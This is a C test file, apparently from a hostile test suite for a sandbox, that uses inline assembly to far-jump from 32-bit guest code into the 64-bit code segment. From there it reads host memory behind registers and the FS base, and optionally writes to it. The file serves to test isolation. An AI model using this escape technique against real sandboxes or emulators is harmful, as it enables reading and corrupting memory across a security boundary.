/*
 * code64-read.c - reads the host's memory out of the host's 64-bit code segment, through every pointer it finds there.
 */
#include "hostile.h"

/*
 * Follows RSP, R8 to R15, and FS and GS bases, reads eight words behind each, and stores what it got; then returns to
 * 32-bit code. Reading may fault; that ends the guest. `write` on the command line makes it write as well: what only
 * protection keys can stop, so it is not part of the default.
 */
__asm__(".data; .balign 8; code64_found: .skip 128; code64_back: .long 0, 0; code64_write: .long 0; .text; code64_entry: .code64;"
	"mov $code64_found, %edi;"
	"mov %rsp, (%rdi); mov %r8, 8(%rdi); mov %r9, 16(%rdi); mov %r10, 24(%rdi); mov %r11, 32(%rdi); mov %r12, 40(%rdi);"
	"mov %r13, 48(%rdi); mov %r14, 56(%rdi); mov %r15, 64(%rdi);"
	"mov %r15, %rbx; mov (%rbx), %rax; mov %rax, 72(%rdi);"
	"mov code64_write - code64_found(%rdi), %ecx; test %ecx, %ecx; jz 1f; movq $0x41414141, (%rbx); 1:"
	"mov %fs:0, %rax; mov %rax, 80(%rdi); mov (%rax), %rax; mov %rax, 88(%rdi);"
	"ljmp *code64_back - code64_found(%rdi); .code32; .text");
extern uint32_t code64_found[32], code64_back[2], code64_write;

static void jump(uint32_t arg)
{
	uint32_t cs;
	__asm__ volatile("mov %%cs, %0" : "=r"(cs));
	code64_back[1] = cs & 0xffff;
	__asm__ volatile("mov %%esp, %%ebp; movl $1f, code64_back; ljmp $0x33, $code64_entry; 1: mov %%ebp, %%esp"
		: : : "eax", "ebx", "ecx", "edx", "esi", "edi", "ebp", "memory", "cc");
}

int guest_main(void)
{
	code64_write = hal_flag("write");
	if (!attack("ljmp-0x33-and-read", jump, 0))
		for (unsigned i = 0; i < 12; i++)
			printf("found 0x%08x%08x\n", code64_found[2 * i + 1], code64_found[2 * i]);
	return hostile_end();
}
